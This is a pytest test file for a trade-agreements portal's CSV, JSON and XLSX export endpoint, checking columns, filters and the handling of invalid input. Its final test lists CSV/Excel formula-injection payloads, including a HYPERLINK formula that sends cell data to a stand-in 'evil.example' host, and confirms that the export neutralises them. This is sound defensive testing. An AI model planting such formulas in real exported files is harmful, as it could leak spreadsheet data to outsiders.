"""/agreements/export.csv|json|xlsx: every matching record, stable columns, the listing's filters."""

import io
import json
import re

import pytest
from openpyxl import load_workbook

from agreements.models import Agreement
from portal.data.columns import table_named
from tests.data.reading import content, read_json
from tests.data.reading import read_csv as read_data_csv
from tests.factories import make_agreement

pytestmark = pytest.mark.django_db

EXPECTED_COLUMNS = [
    "slug",
    "title",
    "short_name",
    "kind",
    "kind_label",
    "status",
    "status_label",
    "book_status",
    "book_status_label",
    "book_year_start",
    "book_year_end",
    "book_years_label",
    "signed_on",
    "entered_into_force_on",
    "dates_source",
    "last_verified_on",
    "parties",
    "parties_iso",
    "parties_blocs",
    "description",
    "notes",
    "source_text",
    "source_text_es",
    "wto_rta_id",
    "sice_url",
    "official_text_url",
    "book_section",
    "book_section_url",
    "url",
]


def read_csv(response):
    return read_data_csv(response)


def read_xlsx(response):
    sheet = load_workbook(io.BytesIO(content(response)), read_only=True).active
    header, *rows = list(sheet.iter_rows(values_only=True))
    assert list(header) == EXPECTED_COLUMNS
    return [dict(zip(header, row, strict=True)) for row in rows]


READERS = {"csv": read_csv, "json": read_json, "xlsx": read_xlsx}


def export(client, fmt, params=None):
    response = client.get(f"/en/agreements/export.{fmt}", params or {})
    assert response.status_code == 200
    return response, READERS[fmt](response)


def test_the_columns_are_a_stable_contract():
    assert table_named("agreements").keys == EXPECTED_COLUMNS


@pytest.mark.parametrize("fmt", ["csv", "json", "xlsx"])
@pytest.mark.parametrize(("status", "count"), [("", 29), ("in_force", 23), ("signed", 2), ("negotiating", 4)])
def test_row_counts_per_status(client, fmt, status, count):
    _response, rows = export(client, fmt, {"status": status} if status else {})
    assert len(rows) == count
    if status:
        assert {row["status"] for row in rows} == {status}


@pytest.mark.parametrize("fmt", ["csv", "json", "xlsx"])
def test_every_matching_record_not_one_page(client, fmt, many_records):
    _response, rows = export(client, fmt)
    assert len(rows) == 29 + len(many_records)


@pytest.mark.parametrize("fmt", ["csv", "json", "xlsx"])
def test_attachment_with_a_sensible_filename(client, fmt):
    response, _rows = export(client, fmt)
    assert re.fullmatch(
        rf'attachment; filename="peru-trade-agreements-\d{{4}}-\d\d-\d\d\.{fmt}"', response["Content-Disposition"]
    )


def test_content_types(client):
    assert client.get("/en/agreements/export.csv")["Content-Type"] == "text/csv; charset=utf-8"
    assert client.get("/en/agreements/export.json")["Content-Type"] == "application/json"
    assert client.get("/en/agreements/export.xlsx")["Content-Type"].startswith("application/vnd.openxmlformats")


def test_csv_header_and_one_row(client):
    response, rows = export(client, "csv", {"q": "Thailand"})
    assert content(response).decode("utf-8-sig").split("\r\n")[0] == ",".join(EXPECTED_COLUMNS)
    agreement = Agreement.objects.get(slug="peru-thailand-fta")
    [row] = rows
    assert {
        key: row[key]
        for key in EXPECTED_COLUMNS
        if key not in ("description", "notes", "source_text", "source_text_es")
    } == {
        "slug": "peru-thailand-fta",
        "title": "Peru–Thailand Free Trade Agreement",
        "short_name": agreement.short_name,
        "kind": "free_trade",
        "kind_label": "Free trade agreement",
        "status": "in_force",
        "status_label": "In force",
        "book_status": "in_force",
        "book_status_label": "In force",
        "book_year_start": "2006",
        "book_year_end": "2010",
        "book_years_label": agreement.book_years_label,
        "signed_on": agreement.signed_on.isoformat() if agreement.signed_on else "",
        "entered_into_force_on": agreement.entered_into_force_on.isoformat() if agreement.entered_into_force_on else "",
        "dates_source": agreement.dates_source,
        "last_verified_on": agreement.last_verified_on.isoformat() if agreement.last_verified_on else "",
        "parties": "Thailand",
        "parties_iso": "TH",
        "parties_blocs": "",
        "wto_rta_id": agreement.wto_rta_id,
        "sice_url": agreement.sice_url,
        "official_text_url": agreement.official_text_url,
        "book_section": row["book_section"],
        "book_section_url": f"http://testserver/en/chapter-3/#{agreement.section_anchor}",
        "url": "http://testserver/en/agreements/peru-thailand-fta/",
    }
    assert row["description"] == agreement.description and row["source_text"] == agreement.source_text
    assert row["book_section"].startswith("III. ")


def test_json_keeps_types_and_lists_blocs_apart_from_countries(client):
    _response, rows = export(client, "json", {"country": "DE"})
    by_slug = {row["slug"]: row for row in rows}
    assert set(by_slug) == {"peru-eu-trade-agreement", "tisa"}
    eu = by_slug["peru-eu-trade-agreement"]
    assert eu["parties_iso"] == "" and eu["parties_blocs"] == "european-union"
    assert eu["book_year_start"] == 2011 and eu["book_year_end"] is None
    tisa = by_slug["tisa"]
    assert tisa["book_years_label"] == "" and tisa["book_year_start"] is None and tisa["book_year_end"] is None
    iso = tisa["parties_iso"].split("; ")
    assert "JP" in iso and "EU" not in iso and all(re.fullmatch(r"[A-Z]{2}", code) for code in iso)
    assert "european-union" in tisa["parties_blocs"].split("; ")
    assert "Japan" in tisa["parties"].split("; ")


def test_xlsx_rows_match_csv_rows(client):
    _r, csv_rows = export(client, "csv", {"sort": "-year"})
    _r, xlsx_rows = export(client, "xlsx", {"sort": "-year"})
    assert [r["slug"] for r in csv_rows] == [r["slug"] for r in xlsx_rows]
    assert xlsx_rows[0]["slug"] == "cptpp"


def test_xlsx_never_stores_text_as_a_formula(client):
    agreement = Agreement.objects.get(slug="wto")
    agreement.short_name = '=HYPERLINK("http://example.com")'
    agreement.save()
    _r, rows = export(client, "xlsx", {"q": "World Trade"})
    assert rows[0]["short_name"] == '=HYPERLINK("http://example.com")'


def test_exports_follow_the_listings_filters(client):
    for fmt in READERS:
        _r, rows = export(client, fmt, {"country": "jp", "status": "in_force"})
        assert {row["slug"] for row in rows} == {"peru-japan-epa", "cptpp"}


def test_non_live_records_are_not_exported(client):
    Agreement.objects.get(slug="tisa").unpublish()
    _r, rows = export(client, "json", {"status": "negotiating"})
    assert len(rows) == 3


BAD_INPUT = [
    {"status": "cancelled"},
    {"kind": "treaty"},
    {"region": "atlantis"},
    {"sort": "random"},
    {"year_from": "abc"},
    {"year_from": "-2000"},
    {"year_to": "99999999999999999999"},
    {"country": "JPN"},
    {"q": "x" * 5000},
    {"page": "-1"},
]


@pytest.mark.parametrize("fmt", ["csv", "json", "xlsx"])
@pytest.mark.parametrize("params", BAD_INPUT)
def test_an_invalid_value_is_the_same_as_no_value(client, fmt, params):
    _response, rows = export(client, fmt, params)
    assert len(rows) == 29


@pytest.mark.parametrize("fmt", ["csv", "json", "xlsx"])
def test_a_refused_value_applies_no_filter_as_on_the_listing(client, fmt):
    # The listing shows every agreement with a notice that the filters were not applied; the file,
    # which cannot carry the notice, holds the same records and (JSON) names no filter.
    _response, rows = export(client, fmt, {"status": "signed", "year_from": "abc", "kind": "nonsense"})
    assert len(rows) == 29


def test_a_refused_value_leaves_the_json_files_filters_empty(client):
    data = json.loads(content(client.get("/en/agreements/export.json", {"status": "signed", "country": "Japan"})))
    assert data["filters"] == {} and data["count"] == 29
    data = json.loads(content(client.get("/en/agreements/export.json", {"status": "signed", "country": "jp"})))
    assert data["filters"] == {"status": "signed", "country": "JP"} and data["count"] == 0


def test_reversed_years_and_unknown_country(client):
    assert len(read_json(client.get("/en/agreements/export.json", {"year_from": "2019", "year_to": "2000"}))) == 29
    assert read_json(client.get("/en/agreements/export.json", {"country": "XX"})) == []


def test_a_nul_byte_in_q_separates_words_as_on_the_search_page(client):
    japan = read_json(client.get("/en/agreements/export.json", {"q": "Japan"}))
    assert japan and read_json(client.get("/en/agreements/export.json", {"q": "Japan\x00"})) == japan


def test_unknown_format_is_404(client):
    assert client.get("/en/agreements/export.pdf").status_code == 404


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A2)", "\tcmd", "\rcmd"]


@pytest.mark.parametrize("title", FORMULAS)
def test_a_cell_that_would_start_a_formula_stays_text(client, title):
    make_agreement(title=title, slug="formula", book_order=0)
    # CSV: OWASP's apostrophe in front. Excel: the very text, stored as a text cell.
    row = next(row for row in read_csv(client.get("/en/agreements/export.csv")) if row["slug"] == "formula")
    assert row["title"] == "'" + title
    sheet = load_workbook(io.BytesIO(content(client.get("/en/agreements/export.xlsx")))).active
    header = [cell.value for cell in next(sheet.iter_rows())]
    row = next(row for row in sheet.iter_rows() if row[header.index("slug")].value == "formula")
    cell = row[header.index("title")]
    # (openpyxl reads a leading carriage return back as a line feed)
    assert cell.data_type == "s" and cell.value.strip() == title.strip()
